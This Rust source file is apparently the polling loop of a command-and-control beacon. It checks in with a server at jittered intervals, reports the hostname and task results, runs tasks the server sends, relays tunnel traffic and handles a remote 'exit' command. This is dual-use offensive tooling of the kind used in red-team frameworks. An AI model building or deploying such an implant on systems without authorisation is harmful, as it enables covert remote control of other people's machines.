//! The poll loop.
//!
//! Each iteration collects finished task results and queued tunnel traffic,
//! sends them in one check-in, starts the tasks and applies the tunnel
//! messages from the response, then sleeps for the jittered interval.
//!
//! Results and tunnel messages that could not be delivered stay with the
//! beacon and ride the next check-in. After an `exit` task has run, the loop
//! waits for in-flight tasks, delivers everything one last time, and stops.

use std::sync::Arc;
use std::time::Duration;

use tokio::task::JoinSet;
use tokio_util::sync::CancellationToken;
use tracing::{debug, info, warn};

use skiff::protocol::{CheckIn, TaskResult};

use crate::client::Transport;
use crate::exec::{run_task, BeaconRegistry, ExecContext};
use crate::tunnel::TunnelManager;

/// Bound on waiting for running tasks once exit has been requested.
const EXIT_GRACE: Duration = Duration::from_secs(10);
/// Final check-in attempts before giving up on delivery at exit.
const EXIT_FLUSH_ATTEMPTS: u32 = 3;

pub struct Agent {
    beacon_id: String,
    hostname: String,
    transport: Arc<dyn Transport>,
    registry: Arc<BeaconRegistry>,
    ctx: Arc<ExecContext>,
    tunnels: TunnelManager,
    running: JoinSet<TaskResult>,
    pending: Vec<TaskResult>,
}

impl Agent {
    pub fn new(
        beacon_id: String,
        hostname: String,
        transport: Arc<dyn Transport>,
        registry: Arc<BeaconRegistry>,
        ctx: Arc<ExecContext>,
        tunnels: TunnelManager,
    ) -> Self {
        Self {
            beacon_id,
            hostname,
            transport,
            registry,
            ctx,
            tunnels,
            running: JoinSet::new(),
            pending: Vec::new(),
        }
    }

    pub fn beacon_id(&self) -> &str {
        &self.beacon_id
    }

    /// Poll until `shutdown` fires or an `exit` task completes.
    pub async fn run(&mut self, shutdown: CancellationToken) {
        info!(beacon_id = %self.beacon_id, "Beacon polling");
        loop {
            if self.ctx.exit.is_cancelled() {
                self.flush_and_exit().await;
                return;
            }

            self.poll_once().await;

            let delay = self.ctx.sleep.next_delay();
            debug!(delay_ms = delay.as_millis() as u64, "Sleeping");
            tokio::select! {
                () = tokio::time::sleep(delay) => {}
                () = self.ctx.exit.cancelled() => {}
                () = shutdown.cancelled() => {
                    info!("Shutdown requested");
                    self.running.abort_all();
                    self.tunnels.shutdown_all().await;
                    return;
                }
            }
        }
    }

    /// One check-in. Returns whether it reached the server.
    pub async fn poll_once(&mut self) -> bool {
        self.collect_finished();
        let results = std::mem::take(&mut self.pending);
        let tunnel = self.tunnels.drain_outbound().await;
        let (sleep_secs, jitter_pct) = self.ctx.sleep.get();
        let request = CheckIn {
            beacon_id: self.beacon_id.clone(),
            hostname: self.hostname.clone(),
            results,
            tunnel,
            sleep_secs: Some(sleep_secs),
            jitter_pct: Some(jitter_pct),
        };

        match self.transport.check_in(&request).await {
            Ok(response) => {
                if !request.results.is_empty() || !request.tunnel.is_empty() {
                    debug!(
                        results = request.results.len(),
                        tunnel = request.tunnel.len(),
                        "Delivered"
                    );
                }
                for msg in response.tunnel {
                    self.tunnels.handle(msg).await;
                }
                for envelope in response.tasks {
                    let registry = self.registry.clone();
                    let ctx = self.ctx.clone();
                    self.running.spawn(run_task(registry, ctx, envelope));
                }
                true
            }
            Err(e) => {
                warn!(error = %e, "Check-in failed, keeping results for next poll");
                let CheckIn {
                    mut results,
                    tunnel,
                    ..
                } = request;
                results.append(&mut self.pending);
                self.pending = results;
                self.tunnels.requeue(tunnel).await;
                false
            }
        }
    }

    fn collect_finished(&mut self) {
        while let Some(joined) = self.running.try_join_next() {
            match joined {
                Ok(result) => self.pending.push(result),
                Err(e) => warn!(error = %e, "Task runner aborted"),
            }
        }
    }

    async fn flush_and_exit(&mut self) {
        info!("Exit requested, flushing results");
        let deadline = tokio::time::Instant::now() + EXIT_GRACE;
        while !self.running.is_empty() {
            match tokio::time::timeout_at(deadline, self.running.join_next()).await {
                Ok(Some(Ok(result))) => self.pending.push(result),
                Ok(Some(Err(e))) => warn!(error = %e, "Task runner aborted"),
                Ok(None) => break,
                Err(_) => {
                    warn!(remaining = self.running.len(), "Abandoning running tasks");
                    self.running.abort_all();
                    break;
                }
            }
        }
        self.tunnels.shutdown_all().await;

        for attempt in 1..=EXIT_FLUSH_ATTEMPTS {
            if self.poll_once().await {
                break;
            }
            if attempt < EXIT_FLUSH_ATTEMPTS {
                tokio::time::sleep(Duration::from_secs(1)).await;
            }
        }
        info!("Beacon exiting");
    }

    #[cfg(test)]
    fn pending(&self) -> &[TaskResult] {
        &self.pending
    }
}

/// Best-effort local host name.
pub fn hostname() -> String {
    for var in ["HOSTNAME", "COMPUTERNAME"] {
        if let Ok(name) = std::env::var(var) {
            if !name.is_empty() {
                return name;
            }
        }
    }
    std::fs::read_to_string("/etc/hostname")
        .map(|s| s.trim().to_string())
        .ok()
        .filter(|s| !s.is_empty())
        .unwrap_or_else(|| "unknown".to_string())
}
